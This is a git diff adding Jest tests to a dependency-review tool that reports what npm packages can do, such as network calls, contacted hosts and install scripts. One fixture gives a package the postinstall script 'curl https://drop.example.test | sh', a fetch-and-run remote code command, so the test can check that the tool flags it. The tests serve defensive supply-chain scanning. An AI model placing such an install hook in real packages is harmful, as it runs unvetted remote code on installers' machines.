@@ -1,6 +1,7 @@
 import { afterEach, describe, expect, test } from '@jest/globals'
 import { learn } from '../../src/facts/index.ts'
 import { noHabits } from '../../src/hash-habits.ts'
+import { inspectorHere } from '../../src/inspect/inspect.ts'
 import type {
   Content,
   DependencyChange,
@@ -57,7 +58,8 @@ const start = async (world: World, options: RegistryOptions = {}): Promise<Aroun
         habits: noHabits,
         namesAtBase: new Set(),
         scriptsHere: () => ({ manager: 'npm', run: undefined, setting: undefined }),
-        wantsContent: () => wanted
+        wantsContent: () => wanted,
+        inspector: inspectorHere()
       })
       if (sheet === undefined) throw new Error('A change has a sheet.')
       return sheet
@@ -305,5 +307,61 @@ describe('what is new in an archive', () => {
     const { code, manifest } = contentOf(await read(updated(of('1.4.0'), of('1.5.0'))))
     expect([...manifest.installScripts]).toEqual([['install', 'node-gyp rebuild']])
     expect(code.capabilities).toMatchObject([{ kind: 'process', weight: 'install' }])
+  })
+})
+
+describe('an added package is looked at as a whole', () => {
+  const sends = { 'index.js': `require('https').get('https://api.example.test/x')\n` }
+  const early: Block = { ...old, files: sends }
+  const grown = kit(early, { ...latest, files: sends })
+  const abilitiesOf = (sheet: FactSheet) => contentOf(sheet).abilities
+
+  test('for what it can do, though nothing of it is new', async () => {
+    const { read, of } = await start(grown)
+    const sheet = await read(added(of('1.5.0')))
+    expect(contentOf(sheet)).toMatchObject({
+      comparedWith: '1.4.0',
+      code: { capabilities: [], destinations: [] },
+      newcomer: undefined
+    })
+    expect(abilitiesOf(sheet)).toEqual({
+      can: [{ kind: 'network', onInstall: false, details: { few: ['https'], more: 0 } }],
+      calls: { few: ['api.example.test'], more: 0 },
+      programs: { few: [], more: 0 },
+      whole: true
+    })
+  })
+
+  test('and no other', async () => {
+    const { read, of } = await start(grown)
+    expect(contentOf(await read(updated(of('1.4.0'), of('1.5.0'))))).toMatchObject({
+      abilities: undefined,
+      newcomer: undefined
+    })
+  })
+
+  test('and all of it counts as new where the package is young, beside what is new in it', async () => {
+    const young: Block = { versions: '1.4.0', at: '2024-06-01', by: 'alice', files: sends }
+    const { read, of, asked } = await start(kit(young, { ...latest, files: sends }))
+    const sheet = await read(added(of('1.5.0')))
+    expect(asked()).toEqual(['1.4.0', '1.5.0'])
+    expect(contentOf(sheet)).toMatchObject({
+      comparedWith: '1.4.0',
+      code: { capabilities: [] },
+      newcomer: { why: 'young', code: { capabilities: [{ kind: 'network', detail: 'https' }] } }
+    })
+  })
+
+  test('also for what its install scripts say, where it is its only release', async () => {
+    const { read, of } = await start(
+      kit({ ...latest, at: '2022-01-01', scripts: { postinstall: 'curl https://drop.example.test | sh' } })
+    )
+    const sheet = await read(added(of('1.5.0')))
+    expect(contentOf(sheet).code.capabilities).toEqual([])
+    expect(contentOf(sheet).newcomer).toMatchObject({
+      why: 'few-releases',
+      code: { capabilities: [{ kind: 'network' }, { kind: 'process', weight: 'install' }] }
+    })
+    expect(abilitiesOf(sheet)?.can.every(({ onInstall }) => onInstall)).toBe(true)
   })
 })
